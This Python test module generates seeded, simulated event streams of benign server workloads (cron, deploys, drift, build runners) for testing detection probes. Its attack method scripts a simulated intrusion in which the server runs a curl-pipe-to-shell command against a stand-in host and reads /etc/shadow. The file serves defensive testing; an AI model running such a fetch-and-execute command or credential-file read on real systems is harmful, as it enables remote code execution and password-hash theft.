"""Weeks of a workload in a second: what it does in each ten minutes, by kind of workload. Deterministic by seed."""

import random
from collections.abc import Iterator

from probes.event import Event
from tests.models.world import World, proc

DAY = 86_400
STEP = 1200
WORDS = tuple(
    a + b + c
    for a in ("ka", "lo", "mi", "ter", "sun")
    for b in ("ro", "li", "van", "de")
    for c in ("n", "s", "lt", "x")
)


class Life:
    """One workload. `step` gives what it does in one step; a subclass adds its own ways."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.world = World(f"sim/{type(self).__name__.lower()}-{seed}")
        self.init = proc("/sbin/tini", "--", "/app/server")
        self.server = proc("/app/server", parent=self.init)
        self.shell = proc("/bin/sh", "/app/loop.sh", parent=self.init)
        self.files = [f"/app/{self.rng.choice(WORDS)}/{self.rng.choice(WORDS)}.dat" for _ in range(40)]
        self.peers = [
            (f"10.0.{self.rng.randrange(9)}.{self.rng.randrange(1, 250)}", self.rng.choice((5432, 6379, 443)))
            for _ in range(4)
        ]
        self.tools = ["/bin/date", "/bin/gzip", "/usr/bin/find", "/bin/rm"][: self.rng.randrange(2, 5)]

    def live(self, begin: int, end: int) -> Iterator[Event]:
        for t in range(begin, end, STEP):
            yield from self.step(self.world.at(t + self.rng.randrange(STEP - 1)), t)

    def step(self, w: World, t: int) -> Iterator[Event]:
        rng = self.rng
        for _ in range(3):
            yield w.read(self.server, self.files[min(int(rng.expovariate(0.12)), 39)])
        ip, port = self.peers[min(int(rng.expovariate(0.8)), 3)]
        yield w.connected(self.server, ip, port)
        yield w.wrote(self.server, f"/var/lib/app/{rng.randrange(10**6)}.tmp")
        if rng.random() < 0.3:
            yield w.ran(rng.choice(self.tools), by=self.shell)
        if rng.random() < 0.0005:
            yield w.read(self.server, f"/app/{rng.choice(WORDS)}/{rng.choice(WORDS)}.dat")

    def attack(self, at: int) -> Iterator[Event]:
        w = self.world.at(at)
        sh = proc("/bin/sh", "-c", "curl -s http://203.0.113.66/x | sh", parent=self.server)
        yield w.ran_as(sh)
        curl = proc("/usr/bin/curl", "-s", "http://203.0.113.66/x", parent=sh)
        yield w.ran_as(curl)
        yield w.connected(curl, "203.0.113.66", 80)
        yield w.read(sh, "/etc/shadow")


class Stationary(Life):
    pass


class Cron(Life):
    def step(self, w: World, t: int) -> Iterator[Event]:
        yield from super().step(w, t)
        hour, day = t // 3600, t // DAY
        if t % 3600 < STEP:
            job = proc("/bin/sh", "/app/hourly.sh", parent=self.shell)
            yield w.ran_as(job)
            yield w.wrote(job, f"/var/log/app/hourly-{hour}.log")
        if t % DAY < STEP:
            tar = proc("/bin/tar", "-czf", f"/backup/{day}.tgz", "/var/lib/app", parent=self.shell)
            yield w.ran_as(tar)
            yield w.wrote(tar, f"/backup/2026-{1 + day // 28:02d}-{1 + day % 28:02d}.tgz")
        if t % (7 * DAY) < STEP:
            rotate = proc("/usr/sbin/logrotate", "/etc/logrotate.conf", parent=self.shell)
            yield w.ran_as(rotate)
            yield w.changed(rotate, "rename", "/var/log/app/x.log", to=f"/var/log/app/x.log.{day // 7}")
        if t % (28 * DAY) in range(20 * DAY, 20 * DAY + STEP):
            yield w.ran("/app/bin/invoice", "--month", by=self.shell)


class Deploys(Life):
    version = 0
    next = 3 * DAY

    def step(self, w: World, t: int) -> Iterator[Event]:
        if t >= self.next:
            self.next = t + self.rng.randrange(4, 10) * DAY
            self.version += 1
            self.server = proc("/app/server", "--version", f"1.{self.version}.0", parent=self.init)
            yield w.ran_as(self.server, first=True)
            for _ in range(self.rng.randrange(5, 15)):
                self.files[self.rng.randrange(40)] = (
                    f"/app/{self.rng.choice(WORDS)}/{self.rng.choice(WORDS)}{self.version}.dat"
                )
            for path in self.files:
                yield w.read(self.server, path)
            yield w.read(self.server, f"/usr/lib/app/plugin-1.{self.version}.so")
        yield from super().step(w, t)


class Drift(Life):
    def step(self, w: World, t: int) -> Iterator[Event]:
        yield from super().step(w, t)
        yield w.wrote(
            self.server, f"/srv/uploads/{''.join(self.rng.choice('abcdefghiklmnoprstu') for _ in range(8))}.jpg"
        )
        if self.rng.random() < 0.02:
            name = f"{self.rng.choice(WORDS)}{self.rng.choice(WORDS)}.hooks.example"
            yield w.asked(self.server, name)
            yield w.connected(self.server, f"198.51.{self.rng.randrange(250)}.{self.rng.randrange(1, 250)}", 443, name)


class Runner(Life):
    def step(self, w: World, t: int) -> Iterator[Event]:
        yield from super().step(w, t)
        rng = self.rng
        if rng.random() < 0.4:
            make = proc("/usr/bin/make", "-j4", rng.choice(WORDS), parent=self.shell)
            yield w.ran_as(make)
            top = f"/build/{rng.choice(WORDS)}{rng.choice(WORDS)}"
            for _ in range(4):
                name = f"{top}/{rng.choice(WORDS)}/{rng.choice(WORDS)}_test"
                gcc = proc("/usr/bin/gcc", "-o", name, f"{name}.c", parent=make)
                yield w.ran_as(gcc)
                yield w.wrote(gcc, name)
                yield w.changed(gcc, "chmod", name, mode=0o755)
                test = proc(name, parent=make)
                yield w.ran_as(test)
                yield w.read(test, f"{name}.json")
            yield w.asked(make, f"{rng.choice(WORDS)}.packages.example")


LIVES: tuple[type[Life], ...] = (Stationary, Cron, Deploys, Drift, Runner)
